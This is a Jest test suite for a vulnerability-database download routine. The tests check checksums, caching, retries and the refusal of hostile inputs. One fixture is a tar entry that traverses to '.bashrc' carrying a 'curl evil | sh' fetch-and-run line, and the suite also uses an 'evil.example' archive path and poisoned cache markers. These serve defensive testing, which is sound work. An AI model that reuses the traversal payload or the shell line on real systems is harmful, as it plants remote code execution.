import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { ConfigurationError } from '@scs/action-kit';
import {
  MARKER_FILE,
  VulnDbError,
  grypeArchiveUrl,
  grypeDbImportInstaller,
  parseGrypeListing,
  prepareGrypeDb,
  type PrepareGrypeDbOptions,
} from '@scs/vuln-db';
import {
  FolderCache,
  makeTar,
  recordingLogger,
  recordingSleep,
  sha256,
  tempDir,
  type RecordingLogger,
  type TarEntry,
} from './helpers.js';

const NOW = new Date('2026-11-26T12:00:00Z');
const BUILT = '2026-11-26T06:11:43Z';

/** Serves fixed bodies by path; paths with a fault answer its status. */
class StaticServer {
  readonly requests: string[] = [];
  readonly routes = new Map<string, Buffer>();
  readonly faults = new Map<string, number>();
  private server: Server | undefined;

  get base(): string {
    return `http://127.0.0.1:${(this.server!.address() as AddressInfo).port}`;
  }

  async start(): Promise<this> {
    this.server = createServer((req, res) => {
      const urlPath = new URL(req.url ?? '/', 'http://x').pathname;
      this.requests.push(urlPath);
      const fault = this.faults.get(urlPath);
      const body = this.routes.get(urlPath);
      if (fault) res.writeHead(fault, { connection: 'close' }).end('fault');
      else if (!body) res.writeHead(404, { connection: 'close' }).end('not found');
      else res.writeHead(200, { connection: 'close', 'content-length': body.length }).end(body);
    });
    await new Promise<void>((resolve) => this.server!.listen(0, '127.0.0.1', resolve));
    return this;
  }

  async stop(): Promise<void> {
    this.server?.closeAllConnections();
    await new Promise<void>((resolve) => this.server?.close(() => resolve()));
  }
}

function grypeArchive(extra: TarEntry[] = []): Buffer {
  return zlib.zstdCompressSync(
    makeTar([
      { name: 'vulnerability.db', data: 'SQLite format 3\0 (not really)' },
      { name: 'import.json', data: '{"digest":"xxh64:0123456789abcdef","source":"test"}' },
      ...extra,
    ]),
  );
}

function listing(archive: Buffer, fields: Record<string, unknown> = {}): Buffer {
  return Buffer.from(
    JSON.stringify({
      status: 'active',
      schemaVersion: '6.0.2',
      built: BUILT,
      path: 'vulnerability-db_v6.0.2_2026-11-26T01:23:45Z_1795673503.tar.zst',
      checksum: sha256(archive),
      ...fields,
    }),
  );
}

describe('prepareGrypeDb', () => {
  let server: StaticServer;
  let backup: StaticServer;
  let cacheDir: string;
  let logger: RecordingLogger;
  let sleep: ReturnType<typeof recordingSleep>;
  const archive = grypeArchive();
  const ARCHIVE_PATH = '/databases/v6/vulnerability-db_v6.0.2_2026-11-26T01:23:45Z_1795673503.tar.zst';

  beforeAll(async () => {
    server = await new StaticServer().start();
    backup = await new StaticServer().start();
  });
  afterAll(async () => {
    await server.stop();
    await backup.stop();
  });
  beforeEach(() => {
    cacheDir = tempDir('grype-cache-');
    logger = recordingLogger();
    sleep = recordingSleep();
    for (const s of [server, backup]) {
      s.requests.length = 0;
      s.routes.clear();
      s.faults.clear();
      s.routes.set('/databases/v6/latest.json', listing(archive));
      s.routes.set(ARCHIVE_PATH, archive);
    }
  });
  afterEach(() => fs.rmSync(cacheDir, { recursive: true, force: true }));

  const options = (extra: Partial<PrepareGrypeDbOptions> = {}): PrepareGrypeDbOptions => ({
    listingUrl: `${server.base}/databases/v6/latest.json`,
    cacheDir,
    maxAgeHours: 24,
    stale: 'fail',
    logger,
    sleep: sleep.sleep,
    now: () => NOW,
    ...extra,
  });
  const dbFiles = () =>
    fs.existsSync(path.join(cacheDir, '6')) ? fs.readdirSync(path.join(cacheDir, '6')).sort() : [];

  it('reads latest.json, downloads the tar.zst with its checksum verified, unpacks into <cacheDir>/6', async () => {
    const result = await prepareGrypeDb(options());
    expect(result).toEqual({
      kind: 'grype-db',
      listingUrl: `${server.base}/databases/v6/latest.json`,
      archiveUrl: `${server.base}${ARCHIVE_PATH}`,
      checksum: sha256(archive),
      source: 'download',
      updatedAt: '2026-11-26T06:11:43.000Z',
      ageHours: expect.closeTo(5.8, 1),
      stale: false,
      requests: 2,
      dbDir: path.join(cacheDir, '6'),
      status: 'active',
      fallbacks: [],
    });
    expect(server.requests).toEqual(['/databases/v6/latest.json', ARCHIVE_PATH]);
    expect(dbFiles()).toEqual([MARKER_FILE, 'import.json', 'vulnerability.db']);
    expect(fs.readFileSync(path.join(cacheDir, '6', 'vulnerability.db'), 'utf8')).toContain('SQLite format 3');
  });

  it('makes no request for a second scan in the same job', async () => {
    await prepareGrypeDb(options());
    server.requests.length = 0;
    const again = await prepareGrypeDb(options());
    expect(again).toMatchObject({
      source: 'job',
      requests: 0,
      checksum: sha256(archive),
      updatedAt: '2026-11-26T06:11:43.000Z',
    });
    expect(server.requests).toEqual([]);
  });

  it('a marker replaced by a FIFO or a link to /dev/zero (a poisoned cache) is not trusted and does not hang (issue 13, item 5)', async () => {
    await prepareGrypeDb(options());
    const marker = path.join(cacheDir, '6', MARKER_FILE);
    for (const plant of [() => fs.symlinkSync('/dev/zero', marker), () => execFileSync('mkfifo', [marker])]) {
      fs.rmSync(marker, { force: true });
      plant();
      server.requests.length = 0;
      const started = Date.now();
      const again = await prepareGrypeDb(options());
      expect(again.source).toBe('download'); // the marker was not read as "prepared in this job"
      expect(Date.now() - started).toBeLessThan(5000);
    }
  });

  it('refuses an archive whose checksum does not match the listing; nothing is installed', async () => {
    server.routes.set('/databases/v6/latest.json', listing(archive, { checksum: sha256('something else') }));
    const error = await prepareGrypeDb(options()).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(VulnDbError);
    expect((error as Error).message).toMatch(/does not match its digest.*refused/);
    expect(dbFiles()).toEqual([]);
  });

  it('refuses a stale DB from the listing alone, before downloading the archive', async () => {
    server.routes.set('/databases/v6/latest.json', listing(archive, { built: '2026-11-20T00:00:00Z' }));
    await expect(prepareGrypeDb(options())).rejects.toThrow(
      /built 6\.5 days ago .* older than the 24.0 hours `db-max-age` allows; refused/,
    );
    expect(server.requests).toEqual(['/databases/v6/latest.json']);
    server.requests.length = 0;
    const warned = await prepareGrypeDb(options({ stale: 'warn' }));
    expect(warned).toMatchObject({ stale: true, source: 'download' });
    expect(logger.warnings.at(-1)).toMatch(/scanning with it anyway/);
  });

  it('falls back to the next listing URL on 503 after bounded retries', async () => {
    server.faults.set('/databases/v6/latest.json', 503);
    const result = await prepareGrypeDb(
      options({ listingUrl: [`${server.base}/databases/v6/latest.json`, `${backup.base}/databases/v6/latest.json`] }),
    );
    expect(result).toMatchObject({
      listingUrl: `${backup.base}/databases/v6/latest.json`,
      source: 'download',
      requests: 5,
    });
    expect(result.fallbacks[0]!.reason).toMatch(/HTTP 503.*after 3 tries/);
    expect(sleep.sleeps).toEqual([1000, 2000]);
  });

  it('refuses archives with traversal entries, and listing paths that leave the listing’s folder', async () => {
    const evil = grypeArchive([{ name: '../../../home/runner/.bashrc', data: 'curl evil | sh' }]);
    server.routes.set(ARCHIVE_PATH, evil);
    server.routes.set('/databases/v6/latest.json', listing(evil));
    await expect(prepareGrypeDb(options())).rejects.toThrow(/escapes the target directory; refused/);
    expect(dbFiles()).toEqual([]);

    server.routes.set('/databases/v6/latest.json', listing(archive, { path: '../../elsewhere/db.tar.zst' }));
    await expect(prepareGrypeDb(options())).rejects.toThrow(/is not a plain relative path; refused/);
    server.routes.set('/databases/v6/latest.json', listing(archive, { path: 'https://evil.example/db.tar.zst' }));
    await expect(prepareGrypeDb(options())).rejects.toThrow(/is not a plain relative path; refused/);
  });

  it('refuses tar.xz archives and other schema models, warns on deprecated listings', async () => {
    server.routes.set('/databases/v6/latest.json', listing(archive, { path: 'db.tar.xz' }));
    await expect(prepareGrypeDb(options())).rejects.toThrow(/tar.zst, tar.gz and tar are supported/);
    server.routes.set('/databases/v6/latest.json', listing(archive, { schemaVersion: '5.1.0' }));
    await expect(prepareGrypeDb(options())).rejects.toThrow(/schema v5 DB; this action installs v6/);
    server.routes.set('/databases/v6/latest.json', listing(archive, { status: 'deprecated' }));
    await prepareGrypeDb(options());
    expect(logger.warnings.at(-1)).toMatch(/is deprecated: update the pinned Grype/);
  });

  it('restores from the Actions cache (listing request only) and saves right after download', async () => {
    const store = tempDir('grype-cache-store-');
    try {
      const cache = new FolderCache(store);
      await prepareGrypeDb(options({ cache }));
      expect(cache.saved).toEqual([`scs-grype-db-${sha256(archive)}`]);
      fs.rmSync(cacheDir, { recursive: true, force: true });
      server.requests.length = 0;
      const restored = await prepareGrypeDb(options({ cache }));
      expect(restored).toMatchObject({ source: 'actions-cache', requests: 1 });
      expect(server.requests).toEqual(['/databases/v6/latest.json']);
      expect(dbFiles()).toEqual([MARKER_FILE, 'import.json', 'vulnerability.db']);

      // A planted archive under our key is refused and the real one downloaded.
      const stored = cache.storedPath(cache.saved[0]!);
      fs.writeFileSync(
        path.join(stored, path.basename(ARCHIVE_PATH)),
        grypeArchive([{ name: 'extra', data: 'planted' }]),
      );
      fs.rmSync(cacheDir, { recursive: true, force: true });
      const redownloaded = await prepareGrypeDb(options({ cache }));
      expect(redownloaded.source).toBe('download');
      expect(logger.warnings.at(-1)).toMatch(
        /The cached Grype vulnerability database .* is unusable \(the stored archive is sha256:/,
      );

      cache.failSave = true;
      fs.rmSync(cacheDir, { recursive: true, force: true });
      fs.rmSync(store, { recursive: true, force: true });
      expect((await prepareGrypeDb(options({ cache }))).source).toBe('download');
      expect(logger.warnings.at(-1)).toMatch(/Saving the Grype vulnerability database to the Actions cache failed/);
    } finally {
      fs.rmSync(store, { recursive: true, force: true });
    }
  });

  it('can hand the verified archive to `grype db import` (a stand-in here)', async () => {
    const bin = tempDir('grype-stand-in-');
    try {
      const argsFile = path.join(bin, 'args.json');
      const grype = path.join(bin, 'grype');
      fs.writeFileSync(
        grype,
        `#!${process.execPath}
const fs = require('node:fs'); const path = require('node:path');
fs.writeFileSync(${JSON.stringify(argsFile)}, JSON.stringify({ argv: process.argv.slice(2), cacheDir: process.env.GRYPE_DB_CACHE_DIR }));
const dir = path.join(process.env.GRYPE_DB_CACHE_DIR, '6');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'vulnerability.db'), 'hydrated');
fs.writeFileSync(path.join(dir, 'import.json'), JSON.stringify({ digest: 'xxh64:0011223344556677', client_version: 'v6.1.10' }));
`,
        { mode: 0o755 },
      );
      const result = await prepareGrypeDb(
        options({ installer: grypeDbImportInstaller({ grype, env: { PATH: process.env.PATH } }) }),
      );
      expect(result.source).toBe('download');
      const recorded = JSON.parse(fs.readFileSync(argsFile, 'utf8')) as { argv: string[]; cacheDir: string };
      // An explicit empty config: no .grype.yaml of the checkout or the home directory is read.
      expect(recorded.argv.slice(0, 3)).toEqual(['db', 'import', '-c']);
      expect(fs.existsSync(recorded.argv[3]!)).toBe(false); // it lived in the scratch folder, removed afterwards
      expect(recorded.argv[4]).toMatch(/\.tar\.zst$/);
      expect(recorded.cacheDir).not.toBe(cacheDir);
      expect(dbFiles()).toEqual([MARKER_FILE, 'import.json', 'vulnerability.db']);
      expect(fs.readdirSync(cacheDir).filter((f) => f.includes('staging'))).toEqual([]);
    } finally {
      fs.rmSync(bin, { recursive: true, force: true });
    }
  });

  it('refuses an import that leaves no import.json (grype 0.120.1 will not read such a DB)', async () => {
    const bin = tempDir('grype-stand-in-');
    try {
      const grype = path.join(bin, 'grype');
      fs.writeFileSync(
        grype,
        `#!${process.execPath}
const fs = require('node:fs'); const path = require('node:path');
const dir = path.join(process.env.GRYPE_DB_CACHE_DIR, '6');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'vulnerability.db'), 'not hydrated');
`,
        { mode: 0o755 },
      );
      await expect(
        prepareGrypeDb(options({ installer: grypeDbImportInstaller({ grype, env: { PATH: process.env.PATH } }) })),
      ).rejects.toThrow(/grype db import left no 6\/import\.json/);
      expect(fs.existsSync(path.join(cacheDir, '6', 'vulnerability.db'))).toBe(false);
    } finally {
      fs.rmSync(bin, { recursive: true, force: true });
    }
  });

  it('reads the listing with its 1 MiB cap enforced while reading (a 400 MB listing never fills memory)', async () => {
    let written = 0;
    const huge = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' }); // no length: chunked
      const chunk = Buffer.alloc(1024 * 1024, 0x20);
      const push = () => {
        while (written < 400 * 1024 * 1024 && !res.destroyed) {
          written += chunk.length;
          if (!res.write(chunk)) return void res.once('drain', push);
        }
        res.end();
      };
      push();
    });
    await new Promise<void>((resolve) => huge.listen(0, '127.0.0.1', resolve));
    try {
      const url = `http://127.0.0.1:${(huge.address() as AddressInfo).port}/databases/v6/latest.json`;
      await expect(prepareGrypeDb(options({ listingUrl: url }))).rejects.toThrow(
        /the listing: the answer is over the 1048576-byte limit; refused/,
      );
      expect(written).toBeLessThan(64 * 1024 * 1024);
    } finally {
      huge.closeAllConnections();
      await new Promise<void>((resolve) => huge.close(() => resolve()));
    }
  });

  it('refuses a listing redirected from https to plain http (issue 13, item 6)', async () => {
    const asked: string[] = [];
    const fetchDouble = async (input: string | URL | Request) => {
      asked.push(String(input));
      return new Response('', { status: 302, headers: { location: 'http://grype.example/databases/v6/latest.json' } });
    };
    await expect(
      prepareGrypeDb(
        options({
          listingUrl: 'https://grype.anchore.io/databases/v6/latest.json',
          fetch: fetchDouble as typeof fetch,
        }),
      ),
    ).rejects.toThrow(/a downgrade from HTTPS to plain HTTP is refused/);
    expect(asked.every((u) => u.startsWith('https://'))).toBe(true);
  });

  it('parses the listing format and resolves the archive next to it', () => {
    const parsed = parseGrypeListing(listing(archive).toString(), 'latest.json');
    expect(parsed).toMatchObject({ status: 'active', schemaVersion: '6.0.2', model: 6, checksum: sha256(archive) });
    expect(parsed.built.toISOString()).toBe('2026-11-26T06:11:43.000Z');
    expect(
      grypeArchiveUrl(
        'https://grype.anchore.io/databases/v6/latest.json?x=1',
        'vulnerability-db_v6.0.2_2026-11-26T01:23:45Z_1795673503.tar.zst',
      ),
    ).toBe('https://grype.anchore.io/databases/v6/vulnerability-db_v6.0.2_2026-11-26T01:23:45Z_1795673503.tar.zst');
    expect(() => parseGrypeListing('{"schemaVersion":"6.0.2","built":"x"}', 'l')).toThrow(/valid `built` time/);
    expect(() => parseGrypeListing(listing(archive, { checksum: 'xxh64:00' }).toString(), 'l')).toThrow(
      /is not sha256/,
    );
  });

  it('rejects non-HTTPS listing URLs outside loopback as configuration errors', async () => {
    await expect(
      prepareGrypeDb(options({ listingUrl: 'http://grype.anchore.io/databases/v6/latest.json' })),
    ).rejects.toThrow(ConfigurationError);
    await expect(prepareGrypeDb(options({ listingUrl: 'not a url' }))).rejects.toThrow(/must be a URL/);
  });
});
